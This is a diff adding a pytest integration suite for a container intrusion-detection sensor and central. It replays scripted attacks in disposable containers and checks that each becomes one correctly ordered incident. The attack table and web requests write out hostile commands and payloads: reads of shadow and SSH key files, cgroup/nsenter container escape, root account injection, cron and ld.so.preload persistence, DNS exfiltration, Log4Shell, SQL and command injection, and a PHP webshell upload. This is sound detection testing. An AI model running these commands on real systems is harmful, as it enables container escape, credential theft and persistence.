@@ -1,0 +1,343 @@
+"""The attacks of ATTACKS.md A1 to A14 in real containers, one after the other, with operators at work: one incident each, in order, with the true entry and nothing of others mixed in.
+
+One engine, one sensor, one central. Each attack plays in containers of its own, which are killed as soon as its last act is done; then the incidents are looked at. All are played once, each is one test.
+"""
+import json
+import secrets
+import statistics
+import subprocess
+import time
+import urllib.parse
+
+import central_env
+import docker_env
+import pytest
+import sensor_env
+from boxes import Box, rss_kib
+from docker_env import wait_for
+from test_rules_default import IMAGE, KINDS, NORMAL, cgroup_mount, make_image
+from test_web import METADATA, PHP, Victim, receive, send
+
+SHELL = "/usr/sbin/nginx sh 'true; true'"
+SECRET = "cat /root/.ssh/id_rsa"
+# As a process of the node: out by the control group, then in the mount namespace of a process of the node, whose /etc is thrown away at the end.
+OUT = "mkdir -p /cg; mount {cgroup} none /cg; sh -c 'echo $$ >/cg/cgroup.procs; exec nsenter -t {node} -m /bin/busybox sh -c \"%s\"'; umount /cg"
+DNS = f"/usr/bin/visit dns {'a1b2c3d4' * 7}.{'e5f6a7b8' * 7}.{'c9d0e1f2' * 7}.example.com"
+
+# Attack: ([(container, kind, command)], tactics in the order in which they come, rules that must be in it, rules of the entry: one of them is the first). Containers are named by what is behind the attack's name.
+ATTACKS = {
+    "a3-code-injection": (
+        [("web", "plain", SHELL), ("web", "plain", "/acts --dir /tmp process_vm.writev"), ("web", "plain", "/acts --dir /tmp ptrace.attach"), ("web", "plain", "LD_PRELOAD=/tmp/x.so /bin/busybox true"),
+         ("web", "plain", "/acts --dir /tmp exec.execveat_memfd")],
+        ["initial-access", "defense-evasion"],
+        {"Code written into another process", "Process attached to another", "Library of an attacker's choice preloaded", "Program run from memory"}, {"Server program started a shell"}),
+    "a4-privileges": (
+        [("web", "plain", SHELL), ("web", "plain", "cp /bin/busybox /opt/s; chmod 4755 /opt/s; /opt/s true"), ("web", "plain", "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/busybox true"),
+         ("web", "plain", "echo eve:x:0:0::/:/bin/sh >>/etc/passwd")],
+        ["initial-access", "privilege-escalation", "persistence"],
+        {"Set-user-id bit given to a file", "Known privilege escalation by arguments or environment", "Accounts or rights of users changed", "Program that is not part of the image run"}, {"Server program started a shell"}),
+    "a5-escape": (
+        [("web", "mighty", SHELL), ("web", "mighty", "dd if=/dev/zero of=/proc/{pid}/mem bs=1 count=1 conv=notrunc; true"), ("web", "mighty", OUT % "/bin/busybox id; true"),
+         ("web", "mighty", "v=$(cat /proc/sys/kernel/core_pattern); echo \"$v\" >/proc/sys/kernel/core_pattern"), ("web", "mighty", "chroot /host /bin/true"), ("web", "mighty", "/acts --dir /tmp module_load.init_module")],
+        ["initial-access", "privilege-escalation", "persistence"],
+        {"Process outside of the container traced or written to", "Process from a container runs a program on the node", "Kernel helper path written from a container", "Root directory changed to a mount of the node",
+         "Kernel module loaded or removed from a container"}, {"Server program started a shell"}),
+    "a5-socket": (
+        [("web", "socket", SHELL), ("web", "socket", "/usr/bin/visit unix /run/docker.sock")], ["initial-access", "execution"], {"Container runtime's socket used from a container"}, {"Server program started a shell"}),
+    "a6-rootkit": (
+        [("web", "mighty", SHELL), ("web", "mighty", OUT % "echo x >/etc/cron.d/bh-test; echo x >/etc/systemd/system/bh-test.service; echo x >>/etc/ld.so.preload"), ("web", "mighty", "/acts --dir /tmp bpf.prog_load_junk"),
+         ("web", "mighty", "sleep 3 & mount --bind /tmp /proc/$!; umount /proc/$!; true")],
+        ["initial-access", "privilege-escalation", "persistence", "defense-evasion"],
+        {"Scheduled job written", "Service of the system written", "Preloaded libraries of all programs changed", "BPF program loaded from a container", "Process hidden by a mount over proc"}, {"Server program started a shell"}),
+    "a7-lateral": (
+        [("web", "plain", SHELL), ("web", "plain", "/bin/nc -w 1 127.0.0.1 9; true"), ("web", "plain", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"), ("web", "plain", "/usr/bin/visit tcp 10250"),
+         ("web", "plain", "/usr/bin/visit tcp 22")],
+        ["initial-access", "discovery", "credential-access", "lateral-movement"],
+        {"Network tool run in a container", "Service account's token read by a tool", "Node's control plane contacted from a container", "SSH connection from a container"}, {"Server program started a shell"}),
+    "a8-exfiltration": (
+        [("web", "plain", SHELL), ("web", "plain", SECRET), ("web", "plain", "cp /usr/bin/visit /opt/up; /opt/up far 203.0.113.9; true"), ("web", "plain", DNS)],
+        ["initial-access", "credential-access", "execution", "command-and-control", "exfiltration"],
+        {"Keys or credentials of others read by a tool", "Program that is not part of the image opened a connection", "Data in the names of DNS questions"}, {"Server program started a shell"}),
+    "a9-hijack-and-kill": (
+        [("web", "mighty", SHELL), ("web", "mighty", "/acts --dir /tmp process_vm.writev"), ("web", "mighty", "cp /bin/busybox /opt/kit; /opt/kit true"),
+         ("web", "mighty", OUT % "echo x >/etc/cron.d/bh-kit; echo x >/etc/ld.so.preload")],
+        ["initial-access", "defense-evasion", "execution", "privilege-escalation", "persistence"],
+        {"Code written into another process", "Program that is not part of the image run", "Process from a container runs a program on the node", "Scheduled job written", "Preloaded libraries of all programs changed"},
+        {"Server program started a shell"}),
+    "a10-three-containers": (
+        [("front", "plain", SHELL), ("front", "plain", "cp /usr/bin/visit /opt/v; /opt/v far {service}:8080; true"), ("service", "plain", "cat /etc/shadow"),
+         ("service", "plain", "cp /usr/bin/visit /opt/v; /opt/v far {db}:5432; true"), ("db", "mighty", "cat /root/.ssh/id_rsa"), ("db", "mighty", OUT % "echo x >/etc/cron.d/bh-db")],
+        ["initial-access", "execution", "command-and-control", "credential-access", "privilege-escalation", "persistence"],
+        {"Program that is not part of the image opened a connection", "Password hashes read", "Keys or credentials of others read by a tool", "Scheduled job written"}, {"Server program started a shell"}),
+    "a11-impact": (
+        [("web", "plain", SHELL), ("web", "plain", "/usr/bin/tool -o stratum+tcp://pool.invalid:3333; true"), ("web", "plain", "touch /tmp/w; /bin/shred /tmp/w"), ("web", "plain", "rm /var/log/app.log")],
+        ["initial-access", "impact", "defense-evasion"], {"Crypto miner started", "Wiping tool run in a container", "Log removed or emptied"}, {"Server program started a shell"}),
+}
+# At the same moment, in two containers of one application, act by act in turn.
+TWINS = [SHELL, "cat /etc/shadow", "rm /var/log/app.log"]
+
+
+class World:
+    """Everything, played once: incident(NAME) is that of an attack, as it is after its containers are gone."""
+
+    def __init__(self, docker, build, backend):
+        self.docker, self.tag = docker, secrets.token_hex(2)
+        make_image(docker, build)
+        self.boxes, self.seconds = {}, {}
+        scratch = "for d in /etc/cron.d /etc/systemd/system; do mount -t tmpfs none $d; done; touch /run/bh-preload; exec sleep 600"
+        self.node = subprocess.Popen(["unshare", "-m", "sh", "-c", f"mount -t tmpfs none /run; mkdir -p /run/e /run/w; mount -t overlay -o lowerdir=/etc,upperdir=/run/e,workdir=/run/w none /etc; {scratch}"])
+        self.victim = subprocess.Popen(["sleep", "600"])
+        self.central = central_env.Central()
+        self.sensor = None
+        try:
+            self.central.__enter__()
+            self.root = self.central.root()
+            self.sensor = sensor_env.Sensor(build, docker_host=docker.host, backend=backend, args=["--budget", "1000", "--bus", f"unix:{self.central.run_dir}/central/bus.sock"])
+            self.sensor.__enter__()
+            wait_for(lambda: (self.sensor.status()["bus"]["state"] == "connected", self.sensor.status()["bus"]), 20, "the sensor is connected")
+            wait_for(lambda: (self.sensor.status()["web"]["state"] == "ready", self.sensor.status()["web"]), 60, "web traffic is looked at")
+            self.play()
+        except BaseException:
+            self.close()
+            raise
+
+    def box(self, name, kind, project):
+        if name not in self.boxes:
+            options = KINDS[kind] + (["-v", f"{self.docker.dir}/docker.sock:/run/docker.sock"] if kind == "socket" else [])
+            labels = ["--label", f"com.docker.compose.project={project}", "--label", f"com.docker.compose.service={name}"]
+            self.boxes[name] = Box(self.docker, name, *labels, *options, image=IMAGE)
+        return self.boxes[name]
+
+    def name(self, attack, container="web"):
+        return f"{attack}-{self.tag}-{container}"
+
+    def kill(self, *names):
+        for name in names:
+            self.boxes.pop(name).close()
+
+    def play(self):
+        words = {"pid": self.victim.pid, "node": self.node.pid, "cgroup": cgroup_mount(self.sensor)}
+        self.bystander = self.box(f"bystander-{self.tag}", "plain", f"bystander-{self.tag}")
+        for attack, (acts, *_) in ATTACKS.items():
+            begin = time.monotonic()
+            for container, kind, _ in acts:
+                self.box(self.name(attack, container), kind, f"{attack}-{self.tag}")
+            for container in {c for c, *_ in acts}:
+                words[container] = self.address(self.name(attack, container)) or "127.0.0.1"
+            for container, _, command in acts:
+                self.boxes[self.name(attack, container)].run(command.format(**words) if "{" in command else command, ok=None)
+                # an operator at work next door (A12), all the while
+                self.docker.docker("exec", self.bystander.name, "/bin/true")
+            self.kill(*{self.name(attack, c) for c, *_ in acts})
+            self.seconds[attack] = time.monotonic() - begin
+        self.web()
+        self.twins()
+        for command in NORMAL.values():
+            self.bystander.run(command, deadline=20, ok=None)
+        self.latencies()
+
+    def address(self, name):
+        return next((n["IPAddress"] for n in self.docker.inspect(name)["NetworkSettings"]["Networks"].values() if n["IPAddress"]), None)
+
+    def web(self):
+        """A1 and A2, with requests: through the hole into a shell that calls home; and each other hole that the service has."""
+        quote = urllib.parse.quote
+        victim = Victim(self.docker, "threads")
+        try:
+            self.web_name = victim.name
+            requests = [("GET", "/ping?host=" + quote("127.0.0.1;cat /etc/shadow;cp /usr/bin/nc.openbsd /tmp/n 2>/dev/null;cat /root/.ssh/id_rsa"), {}, ""),
+                        ("GET", "/items?id=" + quote("1 UNION SELECT 1; ATTACH DATABASE '/tmp/www/stolen.db' AS e; CREATE TABLE e.t(x)"), {}, ""),
+                        ("GET", "/", {"X-Api-Version": "${jndi:ldap://127.0.0.1:1389/a}"}, ""),
+                        ("GET", "/fetch?url=" + quote(f"http://{METADATA}/latest/meta-data/"), {}, ""),
+                        ("POST", "/upload?name=cmdshell.php", {"Content-Type": "application/x-www-form-urlencoded"}, "x=" + quote(PHP)),
+                        ("GET", "/files/cmdshell.php?c=" + quote("cat /etc/passwd;uname -a"), {}, "")]
+            for r in requests:
+                s = victim.connect()
+                send(s, *r)
+                receive(s)
+                s.close()
+            self.web_incident = self.wait(victim.name, lambda i: {"Program run by a web attack", "Connection made by a web attack"} <= self.rules(i))
+        finally:
+            victim.close()
+
+    def twins(self):
+        names = [self.name("twins", c) for c in "ab"]
+        boxes = [self.box(n, "plain", f"twins-{self.tag}") for n in names]
+        for command in TWINS:
+            for b, n in [(b, b.start(command)) for b in boxes]:
+                b.wait(n, ok=None)
+        self.kill(*names)
+
+    def latencies(self):
+        """Seconds from before an act to its place in the incident, as the API tells it: the act's own time is in them."""
+        name, self.places = self.name("latency"), []
+        b = self.box(name, "plain", name)
+        b.run(SHELL)
+        number = self.wait(name, lambda i: True)["id"]
+        for n in range(11):
+            begin = time.monotonic()
+            b.run(f"cp /bin/busybox /opt/p{n}; /opt/p{n} true", ok=None)
+            wait_for(lambda n=n: (any(line["exe"] == f"/opt/p{n}" for line in self.get(number)["timeline"]), n), 20, f"the act {n} is in the incident", every=0.02)
+            self.places.append(time.monotonic() - begin)
+        self.kill(name)
+
+    # What the central says -----------------------------------------------------------------------------------------
+
+    @staticmethod
+    def rules(i):
+        return {line["rule"] for line in i["timeline"]}
+
+    def get(self, number):
+        answer = self.root.get(f"/api/v1/incidents/{number}")
+        assert answer.status == 200, answer
+        return answer.json
+
+    def list(self, **filters):
+        answer = self.root.get("/api/v1/incidents?" + urllib.parse.urlencode({"limit": 500, **filters}))
+        assert answer.status == 200, answer
+        return answer.json["incidents"]
+
+    def wait(self, container, ready, deadline=20):
+        def look():
+            found = self.list(container=container)
+            wholes = [self.get(i["id"]) for i in found]
+            return len(found) == 1 and ready(wholes[0]), json.dumps([(w["id"], w["title"], [(line["rule"], line["container_name"], line["joined_by"]) for line in w["timeline"]]) for w in wholes], indent=1)
+        wait_for(look, deadline, f"one incident with {container}")
+        return self.get(self.list(container=container)[0]["id"])
+
+    def close(self):
+        for name in list(self.boxes):
+            self.kill(name)
+        if self.sensor:
+            self.sensor.__exit__(None, None, None)
+        self.central.__exit__(None, None, None)
+        for p in (self.node, self.victim):
+            p.kill()
+            p.wait()
+
+
+@pytest.fixture(scope="module")
+def world(docker, build, request):
+    w = World(docker, build, request.config.getoption("--backend"))
+    yield w
+    w.close()
+
+
+def check(i, names, order, rules, entry):
+    """One story: these containers and no others, stages in this order, these rules, this entry."""
+    assert {c["name"] for c in i["containers"]} == set(names), [c["name"] for c in i["containers"]]
+    lines = i["timeline"]
+    assert [line["time"] for line in lines] == sorted(line["time"] for line in lines)
+    assert rules <= World.rules(i), f"expected {rules - World.rules(i)} as well, saw {World.rules(i)}"
+    begun = {}
+    for line in lines:
+        for t in line["tactics"]:
+            begun.setdefault(t, line["time"])
+    assert set(order) <= set(begun), f"expected {order}, saw {list(begun)}"
+    assert [begun[t] for t in order] == sorted(begun[t] for t in order), f"expected the stages in the order {order}, saw {begun}"
+    # the model may tell of the same act, at the same moment
+    serious = next(line for line in lines if line["priority"] not in ("notice", "informational", "debug") and not line["rule"].startswith("Model:"))
+    assert serious["rule"] in entry, f"expected it to begin with {entry}, saw {serious}"
+    # whatever happened on the node itself is a process that came from there
+    assert all(line["joined_by"] for line in lines if not line["container_id"]), lines
+    return serious
+
+
+@pytest.mark.deadline(400)
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_is_one_incident(world, attack):
+    acts, order, rules, entry = ATTACKS[attack]
+    names = list(dict.fromkeys(world.name(attack, c) for c, *_ in acts))
+    if attack == "a10-three-containers" and not world.docker.bridge:
+        pytest.skip("this kernel has no bridges: containers cannot reach each other")
+    i = world.wait(names[0], lambda i: rules <= World.rules(i))
+    first = check(i, names, order, rules, entry)
+    assert first["parent"].endswith("nginx") and first["container_name"] == names[0], first
+    assert f"in container {names[0]} " in i["story"].split(":")[2] and "Server program started a shell" in i["story"].split(". ")[0], i["story"]
+    for name in names:
+        assert [x["id"] for x in world.list(container=name)] == [i["id"]], world.list(container=name)
+    assert names[0] in i["story"], i["story"]
+    assert all(c["state"] in ("removed", "exited", "dead", None) for c in i["containers"]), i["containers"]
+    if attack in ("a5-escape", "a6-rootkit", "a9-hijack-and-kill"):
+        assert i["severity"] == "critical" and i["title"].startswith(f"Way out of container {names[0]} to node "), i["title"]
+        assert any(not line["container_id"] for line in i["timeline"]), "expected acts on the node"
+    print(f"{attack}: {world.seconds[attack]:.1f} s, {i['severity']}: {i['title']}\n{i['story']}")
+
+
+def test_web_attacks_are_one_incident_with_what_they_did(world):
+    i = world.web_incident
+    assert [c["name"] for c in i["containers"]] == [world.web_name], i["containers"]
+    web = [line for line in i["timeline"] if line["rule"] in ("Program run by a web attack", "Connection made by a web attack", "File reached by a web attack")]
+    assert web and all(line["container_name"] == world.web_name for line in web), i["timeline"]
+    assert any("cat /etc/shadow" in line["output"] for line in web), [line["output"] for line in web]
+    assert [x["id"] for x in world.list(container=world.web_name)] == [i["id"]]
+
+
+def test_two_attacks_at_once_in_one_application_are_two(world):
+    both = [world.wait(world.name("twins", c), lambda i: {"Password hashes read", "Log removed or emptied"} <= World.rules(i)) for c in "ab"]
+    assert both[0]["id"] != both[1]["id"]
+    for i, c in zip(both, "ab"):
+        assert [x["name"] for x in i["containers"]] == [world.name("twins", c)], i["containers"]
+
+
+def test_operators_and_normal_work_are_none(world):
+    """A12 and the quiet list, in a container where both went on all the time; the latest attack's incident is behind them in the log."""
+    world.wait(world.name("latency"), lambda i: True)
+    assert world.list(container=world.bystander.name) == []
+
+
+def test_an_act_has_its_place_soon(world):
+    median = statistics.median(world.places)
+    print(f"from before the act to its place in the incident: median {median:.2f} s, all {[round(p, 2) for p in world.places]}")
+    assert median < 3, world.places  # 1 s on a machine that does nothing else
+
+
+def test_everything_is_there_after_sensor_and_central_were_killed(world):
+    """Whole timelines, not their counts; and a storm of equal findings, and an attack with hours between its acts, against the central that was started again. Last: it changes both."""
+    before = {i["id"]: world.get(i["id"]) for i in world.list(state="open")}
+    world.sensor.kill()
+    world.central.kill()
+    world.central.start()
+    world.root = world.central.root()
+    time_of = {n: world.get(n) for n in before}
+    for n, i in before.items():
+        assert time_of[n]["timeline"] == i["timeline"], f"incident {n}"
+        assert (time_of[n]["title"], time_of[n]["story"], time_of[n]["findings"]) == (i["title"], i["story"], i["findings"])
+    node = world.central.node("node-slow")
+    try:
+        slow(world, node)
+        storm(world, node)
+    finally:
+        node.close()
+
+
+def tell(node, ident, rule, priority, tactic, when, container, count=1):
+    return node.publish("finding", central_env.proto(f1=ident, f2=when, f3=rule, f4=priority, f5="syscall", f6=rule, f7=node.name, f8=container, f9=container, f12=["container", tactic], f18=count, f19=when, f20=ident))
+
+
+def slow(world, node):
+    """A13: one step an hour, by the time of the events."""
+    begin = time.time_ns() - 20 * 3600 * 10**9
+    tactics = ["mitre_initial_access", "mitre_execution", "mitre_credential_access", "mitre_lateral_movement", "mitre_exfiltration"]
+    for n in range(20):
+        tell(node, f"slow-{n}", f"Step {n}", "error", tactics[n // 4], begin + n * 3600 * 10**9, "slow-box")
+    i = world.wait("slow-box", lambda i: len(i["timeline"]) == 20)
+    assert [line["rule"] for line in i["timeline"]] == [f"Step {n}" for n in range(20)], i["timeline"]
+    assert len(i["tactics"]) == 5 and i["severity"] == "critical", i
+
+
+def storm(world, node):
+    """10,000 equal findings, each a row of its own: one line with a count, in bounded memory, and few writes of the row."""
+    status = lambda: world.root.get("/api/v1/status").json["central"]["incidents"]  # noqa: E731
+    before, written = rss_kib(world.central.pid), status()["written"]
+    begin = time.monotonic()
+    for n in range(10000):
+        tell(node, f"storm-{n}", "Shell in a container", "error", "mitre_execution", time.time_ns(), "storm-box")
+        if n % 200 == 199:
+            node.wait_acked(deadline=30)
+    node.wait_acked(deadline=120)
+    i = world.wait("storm-box", lambda i: i["timeline"][0]["count"] >= 10000, deadline=120)
+    after = rss_kib(world.central.pid)
+    print(f"storm: 10,000 findings in {time.monotonic() - begin:.1f} s, {status()['written'] - written} rows written, central {before} to {after} KiB")
+    assert len(i["timeline"]) == 1 and i["timeline"][0]["count"] == 10000 and i["findings"] == 10000, i
+    assert after - before < 100 * 1024, (before, after)
